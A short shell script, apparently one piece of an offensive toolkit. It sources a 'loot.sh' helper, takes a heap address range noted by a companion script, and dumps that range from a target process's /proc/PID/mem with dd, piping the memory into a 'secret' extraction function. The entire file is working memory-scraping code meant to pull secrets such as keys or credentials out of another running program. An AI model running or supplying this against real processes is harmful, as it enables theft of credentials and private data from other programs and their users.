#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# dd of /proc/PID/mem, at the heap's address as noted by maps.sh.
. "$(dirname "$0")/loot.sh"
range=$(cut -d ' ' -f 1 "$notes/heap")
start=$((0x${range%-*}))
end=$((0x${range#*-}))
dd "if=/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) status=none | secret
